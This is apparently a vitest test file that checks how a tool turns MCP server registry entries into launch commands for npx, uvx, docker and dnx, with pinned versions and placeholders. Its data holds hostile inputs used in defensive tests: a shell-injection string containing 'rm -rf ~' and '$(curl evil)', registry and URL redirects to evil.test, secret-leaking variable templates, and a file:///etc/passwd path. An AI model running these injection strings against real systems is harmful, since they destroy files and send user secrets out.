/** What Parley runs for entries of a registry: the exact command or URL, or the reason why there is none. */
import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { readyMadeNames, readyMadeVersion } from '../../contract/servers/ready-made-permissions'
import { toEnglish } from '../../texts/render-localized'
import { readPage } from './read-page'

const stdio = { type: 'stdio' }
const entryWith = (server: object) => ({
  server: { name: 'com.example/thing', version: '1.2.3', ...server }
})
const waysOf = (server: object) => readPage({ servers: [entryWith(server)] })?.entries[0]?.ways ?? []
const wayOf = (found: object) => {
  const [way] = waysOf({ packages: [{ transport: stdio, version: '1.2.3', ...found }] })
  if (way === undefined) throw new Error('The entry was left out')
  return way
}
const lineOf = (found: object) => {
  const { launch, problem } = wayOf(found)
  if (launch?.kind !== 'program') throw new Error(problem === null ? 'no program' : toEnglish(problem))
  return [launch.command, ...launch.args]
}
const problemOf = (found: object) => {
  const { launch, problem } = wayOf(found)
  return launch === null && problem !== null ? toEnglish(problem) : null
}

describe('the command of a registry entry', () => {
  it.each([
    ['npm', { identifier: '@scope/thing' }, 'npx -y @scope/thing@1.2.3'],
    ['pypi', { identifier: 'thing-server' }, 'uvx thing-server==1.2.3'],
    ['oci', { identifier: 'ghcr.io/owner/thing' }, 'docker run -i --rm ghcr.io/owner/thing:1.2.3'],
    ['oci', { identifier: 'owner/thing:9', version: null }, 'docker run -i --rm owner/thing:9'],
    ['nuget', { identifier: 'Thing.Server' }, 'dnx Thing.Server@1.2.3 --yes']
  ])('has a fixed version for %s', (registryType, found, line) => {
    expect(lineOf({ registryType, ...found }).join(' ')).toBe(line)
  })

  it('ECO-04: keeps arguments separate, even if a shell would split them', () => {
    const hostile = '; rm -rf ~ && $(curl evil) | `id` > /etc/passwd'
    const packageArguments = [
      { type: 'positional', value: hostile },
      { type: 'named', name: '--mode', value: 'a b' },
      { type: 'named', name: '--quiet' },
      { type: 'named', name: '--depth', valueHint: 'n' }
    ]
    expect(lineOf({ registryType: 'npm', identifier: 'thing', packageArguments })).toEqual([
      ...['npx', '-y', 'thing@1.2.3', hostile, '--mode=a b', '--quiet']
    ])
  })

  it('passes a variable to a container by its name, and has a secret in no text', () => {
    const environmentVariables = [
      { name: 'TOKEN', isSecret: true, isRequired: true, default: 'given' },
      { name: 'REGION', default: 'eu' },
      { name: 'EXTRA', description: 'More.' }
    ]
    const way = wayOf({ registryType: 'oci', identifier: 'owner/thing', environmentVariables })
    expect(way.launch).toEqual({
      kind: 'program',
      command: 'docker',
      args: ['run', '-i', '--rm', '-e', 'TOKEN', '-e', 'REGION', 'owner/thing:1.2.3'],
      env: [
        { name: 'TOKEN', text: '', isSecret: true },
        { name: 'REGION', text: 'eu', isSecret: false }
      ]
    })
    expect(way.asked.map(({ name }) => name)).toEqual(['TOKEN', 'REGION', 'EXTRA'])
  })

  it('has a placeholder for values that only the user knows', () => {
    const packageArguments = [{ type: 'positional', valueHint: 'folder', isRequired: true }]
    const way = wayOf({ registryType: 'npm', identifier: 'thing', packageArguments })
    expect(way.launch).toMatchObject({ args: ['-y', 'thing@1.2.3', '<folder>'] })
    expect(way.placeholders).toEqual(['<folder>'])
    const remotes = [
      {
        type: 'streamable-http',
        url: 'https://{tenant}.example.com/{region}/mcp',
        variables: { tenant: { isRequired: true }, region: { default: 'eu' } },
        headers: [{ name: 'Authorization', isSecret: true, isRequired: true }]
      }
    ]
    const [remote] = waysOf({ remotes })
    expect(remote?.launch).toEqual({
      kind: 'address',
      url: 'https://<tenant>.example.com/eu/mcp',
      headers: [{ name: 'Authorization', text: '', isSecret: true }]
    })
    expect(remote?.placeholders).toEqual(['<tenant>'])
  })

  it.each([
    [
      'an option instead of a name',
      { registryType: 'npm', identifier: '--registry=https://evil.test' },
      'valid'
    ],
    ['a URL instead of a name', { registryType: 'npm', identifier: 'https://evil.test/x.tgz' }, 'valid'],
    ['a folder instead of a name', { registryType: 'pypi', identifier: '../thing' }, 'valid'],
    ['an option instead of an image', { registryType: 'oci', identifier: '--privileged' }, 'valid'],
    ['no fixed version', { registryType: 'npm', identifier: 'thing', version: 'latest' }, 'valid'],
    ['a range of versions', { registryType: 'npm', identifier: 'thing', version: '^1.0.0' }, 'valid'],
    ['no version', { registryType: 'oci', identifier: 'owner/thing', version: null }, 'valid'],
    [
      'another registry',
      { registryType: 'npm', identifier: 'thing', registryBaseUrl: 'https://evil.test' },
      'evil.test'
    ],
    ['an unknown kind', { registryType: 'cargo', identifier: 'thing' }, 'cargo'],
    [
      'an HTTP server in a package',
      { registryType: 'npm', identifier: 'thing', transport: { type: 'sse' } },
      'HTTP'
    ],
    [
      'a secret of the user in an argument',
      {
        registryType: 'npm',
        identifier: 'thing',
        packageArguments: [{ type: 'positional', value: '${secret:bank}' }]
      },
      'secrets of yours'
    ],
    [
      'a variable of the user in a variable',
      {
        registryType: 'npm',
        identifier: 'thing',
        environmentVariables: [{ name: 'URL', value: 'https://evil.test/${env:HOME}' }]
      },
      'secrets of yours'
    ],
    [
      'hidden characters',
      {
        registryType: 'npm',
        identifier: 'thing',
        packageArguments: [{ type: 'positional', value: 'a\u202Eb' }]
      },
      'invisible characters'
    ],
    [
      'two lines in one argument',
      {
        registryType: 'npm',
        identifier: 'thing',
        packageArguments: [{ type: 'positional', value: 'a\n--all' }]
      },
      'invisible characters'
    ],
    [
      'a variable with an invalid name',
      { registryType: 'npm', identifier: 'thing', environmentVariables: [{ name: 'A=B', value: 'x' }] },
      'name'
    ]
  ])('is refused for %s', (_what, found, reason) => {
    expect(problemOf(found)).toMatch(new RegExp(reason))
  })

  it('is none for a bundle, which has its URL and hash and is not fetched', () => {
    const identifier = 'https://github.com/o/r/releases/download/v1/thing.mcpb'
    const fileSha256 = 'a'.repeat(64)
    expect(wayOf({ registryType: 'mcpb', identifier, fileSha256 })).toMatchObject({
      launch: null,
      download: { url: identifier, sha256: fileSha256 }
    })
    expect(problemOf({ registryType: 'mcpb', identifier: 'file:///etc/passwd' })).toMatch('valid')
  })
})

it('has the version of the included list for ready-made servers', () => {
  const list = readFileSync(new URL('../../../resources/servers.json', import.meta.url), 'utf8')
  for (const name of readyMadeNames) {
    const [, version] =
      new RegExp(`"identifier": "@modelcontextprotocol/server-${name}",\\s*"version": "([^"]+)"`).exec(
        list
      ) ?? []
    expect(version).toBe(readyMadeVersion)
  }
})
